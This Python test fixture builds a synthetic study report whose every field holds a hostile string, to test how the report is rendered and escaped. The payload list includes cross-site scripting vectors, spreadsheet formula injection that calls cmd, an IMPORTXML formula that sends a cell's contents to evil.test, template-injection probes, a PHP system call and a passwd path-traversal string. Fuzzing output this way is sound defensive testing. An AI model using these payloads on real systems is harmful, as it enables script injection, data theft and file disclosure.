"""A study whose every string attacks whoever shows it.

The number of payloads is a prime, so that each of them comes to stand in every field.
"""

from __future__ import annotations

import itertools
from dataclasses import replace

from synthetic import Synthetic

from batchcliff.record import Outcome, TrialRecord
from batchcliff.spec import Arm, StudySpec

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    '"><img src=x onerror=alert(3)>',
    "<svg/onload=alert(4)>",
    "</style><script>alert(5)</script>",
    "</title><body onload=alert(6)>",
    "<!--<script>alert(7)//-->",
    "{{ 7 * 7 }}{% for x in y %}",
    "javascript:alert(8)",
    '=HYPERLINK("http://evil.test","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202egnp.exe\u202c",
    "line one\nline two\r\nthree\u2028four",
    "nul\x00bell\x07esc\x1b[31m",
    "half a pair \ud800 here",
    "'; alert(9); //",
    "datum.constructor.constructor('alert(10)')()",
    "x" * 5000,
    "<iframe src=http://evil.test></iframe>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "](http://evil.test) | <b>",
    "&lt;script&gt;alert(11)&lt;/script&gt;",
    "עברית العربية",
    "",
    "<img/src/onerror=alert(12)>",
    "<IMG SRC=JaVaScRiPt:alert(13)>",
    "<a href=javascript:alert(14)>x</a>",
    "<object data=data:text/html,<script>alert(15)</script>>",
    "<embed src=//evil.test/x.swf>",
    "<meta http-equiv=refresh content=0;url=http://evil.test>",
    "<base href=http://evil.test/>",
    "<form action=http://evil.test><input type=submit autofocus onfocus=alert(16)>",
    "<details open ontoggle=alert(17)>",
    "<video><source onerror=alert(18)></video>",
    "<math><mtext></math><script>alert(19)</script>",
    "<template><script>alert(20)</script></template>",
    "</textarea><script>alert(21)</script>",
    "</noscript><script>alert(22)</script>",
    "</xmp></plaintext><script>alert(23)</script>",
    "]]><script>alert(24)</script>",
    "--><script>alert(25)</script>",
    "<?php system('id'); ?>",
    "{% include '/etc/passwd' %}{{ self.__init__.__globals__ }}",
    "${7*7}#{7*7}%{7*7}",
    "\\u003cscript\\u003ealert(26)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(27)%3C/script%3E",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
    'a,b"c\n=1+1',
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.test\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H\x9b31m\x90q\x9c",
    "\u202eabc\u2066def\u2069",
    "\u200b\u2060\ufeff",
    "zalgo\u0301\u0302\u0303\u0304" * 9,
    "../../../etc/passwd",
)

Hostile = tuple[
    StudySpec, list[TrialRecord], list[tuple[str, int, int, str]], list[str], list[str]
]


def hostile_study() -> Hostile:
    """(study, records, planned, notes, quarantined): an arm for each payload, all else too."""
    arms = tuple(Arm(name=p, techniques=(("t", (("i", i),)),)) for i, p in enumerate(PAYLOADS))
    synthetic = Synthetic(seeds=1, sizes=(128, 4096), arms=arms)
    nasty = itertools.cycle(PAYLOADS)
    study = replace(
        synthetic.study,
        name=PAYLOADS[1],
        workload=PAYLOADS[2],
        data=PAYLOADS[3],
        budget=PAYLOADS[4],
        description="\n\n".join(PAYLOADS),
        reference_arm=PAYLOADS[0],
    )
    records = [_poisoned(record, nasty) for record in synthetic.records()]
    return study, records, synthetic.planned(), list(PAYLOADS), list(PAYLOADS)


def _poisoned(record: TrialRecord, nasty: itertools.cycle[str]) -> TrialRecord:
    assert record.ledger is not None and record.provenance is not None
    bad = record.spec.batch_size == 4096
    return replace(
        record,
        outcome=Outcome.FAILED if bad else record.outcome,
        accuracy=None if bad else record.accuracy,
        reason=next(nasty),
        ledger=replace(record.ledger, lr_provenance=next(nasty)),
        provenance=replace(
            record.provenance,
            device=next(nasty),
            code=next(nasty),
            data_source=next(nasty),
            started=next(nasty),
            versions=((next(nasty), next(nasty)),),
            numerics=((next(nasty), next(nasty)),),
        ),
    )
